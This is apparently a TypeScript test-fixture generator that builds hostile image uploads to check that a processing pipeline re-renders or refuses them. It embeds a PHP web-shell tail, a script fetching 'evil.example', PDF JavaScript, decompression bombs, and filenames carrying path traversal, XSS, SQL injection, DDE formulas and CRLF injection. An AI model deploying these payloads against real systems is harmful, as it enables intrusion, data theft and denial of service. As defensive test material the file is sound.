import { deflateSync } from 'node:zlib'
import sharp, { type Sharp } from 'sharp'
import { Random } from '../random.ts'
import { type HostileFile, hex, join, MARK, text } from './hostile-file.ts'
import { chunk, header, packedText, png, small } from './png.ts'

/** Bombs take long to make: `npm test` makes small ones. */
const share = process.env.DRILL === 'whole' ? 1 : 0.05

const formats = ['jpeg', 'png', 'webp'] as const
type Format = (typeof formats)[number]

const canvas = (width: number, height: number) =>
  sharp({ create: { width, height, channels: 3, background: '#778899' }, limitInputPixels: false })

async function plain(format: Format): Promise<Uint8Array> {
  const noise = { type: 'gaussian', mean: 128, sigma: 40 } as const
  return sharp({ create: { width: 120, height: 90, channels: 3, background: '#000000', noise } })
    .toFormat(format)
    .toBuffer()
}

/** Pictures that are pictures, with what nobody wants to keep. */
export async function pictures(): Promise<HostileFile[]> {
  const files: HostileFile[] = [...chunks(), ...floods()]
  for (const format of formats) {
    const bytes = await plain(format)
    files.push(...(await tellTales(format)), ...polyglots(format, bytes), ...broken(format, bytes))
  }
  return [...files, ...(await names()), ...(share === 1 ? await bombs() : [])]
}

async function tellTales(format: Format): Promise<HostileFile[]> {
  const made = canvas(120, 90)
  const place = {
    IFD0: { Copyright: MARK, Artist: MARK, ImageDescription: MARK.repeat(500) },
    IFD3: {
      GPSLatitudeRef: 'N',
      GPSLatitude: '35/1 58/1 0/1',
      GPSLongitudeRef: 'E',
      GPSLongitude: '139/1 35/1 0/1',
    },
  }
  const xmp = `<x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#"><rdf:Description rdf:about="${MARK}"/></rdf:RDF></x:xmpmeta>`
  const kinds: [string, Sharp][] = [
    ['the place in EXIF', made.clone().withExif(place)],
    ['a colour profile', made.clone().withIccProfile('p3')],
    ['XMP', made.clone().withXmp(xmp)],
    ['turned by EXIF', made.clone().withMetadata({ orientation: 6 })],
    ['all of it', made.clone().withExif(place).withIccProfile('p3').withXmp(xmp)],
  ]
  return await Promise.all(
    kinds.map(
      async ([what, picture]): Promise<HostileFile> => ({
        what: `${format} with ${what}`,
        name: `a.${format}`,
        bytes: await picture.toFormat(format).toBuffer(),
        becomes: 'rendition',
      }),
    ),
  )
}

const tails: Readonly<Record<string, string>> = {
  html: `<script>fetch('//evil.example/${MARK}')</script>`,
  zip: `PK\x03\x04${MARK}PK\x05\x06`,
  pdf: `%PDF-1.7\n/${MARK} 1 0 obj<</JS(app.alert(1))>>`,
  php: `<?php system($_GET['${MARK}']); ?>`,
  script: `#!/bin/sh\n${MARK}`,
  program: `MZ\x90\0${MARK}`,
  svg: `<svg onload="${MARK}">`,
  another: `\xff\xd8\xff\xe1${MARK}`,
  long: MARK.repeat(50_000),
}

function polyglots(format: Format, bytes: Uint8Array): HostileFile[] {
  return Object.entries(tails).map(([kind, tail]) => ({
    what: `${format} that is also ${kind}`,
    name: `a.${format}`,
    bytes: join(bytes, tail),
    becomes: 'rendition',
  }))
}

/** Cut off, and with bits turned over: made anew or refused, but nothing else. */
function broken(format: Format, bytes: Uint8Array): HostileFile[] {
  const cuts = [12, 20, 30, 60, 120, 250, 500, 1_000, bytes.length - 40, bytes.length - 1]
  const random = new Random(format.length * 77)
  const flipped = Array.from({ length: 14 }, (_, at) => {
    const turned = Uint8Array.from(bytes)
    for (let times = at + 1; times > 0; times--) {
      const place = random.below(turned.length)
      turned[place] = (turned[place] ?? 0) ^ (1 << random.below(8))
    }
    return { what: `${format} with ${at + 1} bits turned over`, name: `a.${format}`, bytes: turned }
  })
  const cut = cuts.map((at) => ({
    what: `${format} cut at ${at}`,
    name: `a.${format}`,
    bytes: bytes.slice(0, at),
  }))
  return [...cut, ...flipped]
}

function chunks(): HostileFile[] {
  const files: [string, Uint8Array, HostileFile['becomes']?][] = [
    ['a text', small(chunk('tEXt', text(`Comment\0${MARK}`))), 'rendition'],
    ['an international text', small(chunk('iTXt', text(`c\0\0\0\0\0${MARK}`))), 'rendition'],
    ['EXIF', small(chunk('eXIf', text(`MM\0*${MARK}`))), 'rendition'],
    ['a text that unpacks to 200 MB', small(packedText(200 * share))],
    [
      'ten texts that unpack to 60 MB each',
      small(...Array.from({ length: 10 }, () => packedText(60 * share))),
    ],
    ['ten thousand texts', small(...Array.from({ length: 10_000 }, () => chunk('tEXt', text(`a\0${MARK}`))))],
    [
      'a profile that unpacks to 100 MB',
      small(chunk('iCCP', join('p\0\0', deflateSync(Buffer.alloc(1e8 * share))))),
    ],
    ['a wrong checksum', small(chunk('tEXt', text('a\0b'), 7))],
    ['an unknown chunk that must be known', small(chunk('EVIL', text(MARK)))],
    ['two headers', png(header(8, 8), header(9_000, 9_000), chunk('IDAT', deflateSync(Buffer.alloc(200))))],
    ['no pixels', png(header(8, 8))],
    ['a chunk longer than the file', join(small().slice(0, 33), hex('7fffffff'), 'IDAT')],
    [
      'pixels that unpack to 300 MB',
      png(header(8, 8), chunk('IDAT', deflateSync(Buffer.alloc(3e8 * share)))),
    ],
    ['a palette that is not there', png(header(8, 8, 8, 3), chunk('IDAT', deflateSync(Buffer.alloc(72))))],
    ['a depth that does not exist', png(header(8, 8, 13, 5), chunk('IDAT', deflateSync(Buffer.alloc(72))))],
  ]
  return files.map(([what, bytes, becomes]) => ({
    what: `png with ${what}`,
    name: 'a.png',
    bytes,
    ...(becomes && { becomes }),
  }))
}

/** A few bytes that claim to be an enormous picture. */
function floods(): HostileFile[] {
  const sizes: [number, number][] = [
    [65_535, 65_535],
    [2_147_483_647, 1],
    [1, 2_147_483_647],
    [40_000_001, 1],
    [0, 0],
    [0xffffffff, 0xffffffff],
  ]
  const asPng = sizes.map(
    ([width, height]): HostileFile => ({
      what: `png that claims ${width} by ${height}`,
      name: 'a.png',
      bytes: png(header(width, height), chunk('IDAT', deflateSync(Buffer.alloc(1000)))),
      becomes: 'refused',
    }),
  )
  const webp = join('RIFF', hex('16000000'), 'WEBPVP8X', hex('0a000000 10000000 ffffff ffffff'))
  const jpeg = hex('ffd8ffe000104a46494600010100000100010000ffc0001108ffffffff03012200021101031101ffd9')
  return [
    ...asPng,
    { what: 'webp that claims 16777216 squared', name: 'a.webp', bytes: webp, becomes: 'refused' },
    { what: 'jpeg that claims 65535 squared', name: 'a.jpg', bytes: jpeg, becomes: 'refused' },
  ]
}

async function bombs(): Promise<HostileFile[]> {
  const squared = async (pixels: number, format: Format) =>
    canvas(pixels, pixels).toFormat(format, { compressionLevel: 9, quality: 1 }).toBuffer()
  return [
    {
      what: 'png of 144 million pixels',
      name: 'a.png',
      bytes: await squared(12_000, 'png'),
      becomes: 'refused',
    },
    {
      what: 'jpeg of 100 million pixels',
      name: 'a.jpg',
      bytes: await squared(10_000, 'jpeg'),
      becomes: 'refused',
    },
    {
      what: 'jpeg of 36 million pixels',
      name: 'a.jpg',
      bytes: await squared(6_000, 'jpeg'),
      becomes: 'rendition',
    },
    { what: 'jpeg with 300 comments', name: 'a.jpg', bytes: await withComments(300), becomes: 'rendition' },
  ]
}

/** Three hundred comments of 60,000 bytes before the picture begins. */
async function withComments(count: number): Promise<Uint8Array> {
  const bytes = await plain('jpeg')
  const words = text(MARK.repeat(6_000))
  const length = Buffer.alloc(2)
  length.writeUInt16BE(words.length + 2)
  const comment = join(hex('fffe'), length, words)
  return join(bytes.slice(0, 2), ...Array.from({ length: count }, () => comment), bytes.slice(2))
}

async function names(): Promise<HostileFile[]> {
  const bytes = await plain('jpeg')
  const hostile = [
    'a.jpg.exe',
    'a.pdf.js',
    'a.jpg\u202egpj.exe',
    '../../../etc/passwd',
    '..\\..\\windows\\system32\\a.jpg',
    'CON',
    'a.jpg                                             .exe',
    '<img src=x onerror=alert(1)>.jpg',
    "a'; drop table attachment; --.jpg",
    '=cmd|calc!A1.jpg',
    `${'\u9577'.repeat(1_000)}.jpg`,
    'a.jpg\r\nX-Evil: 1',
    '.htaccess',
    'a\0b.jpg',
  ]
  return hostile.map(
    (name): HostileFile => ({ what: `the name ${JSON.stringify(name).slice(0, 40)}`, name, bytes }),
  )
}
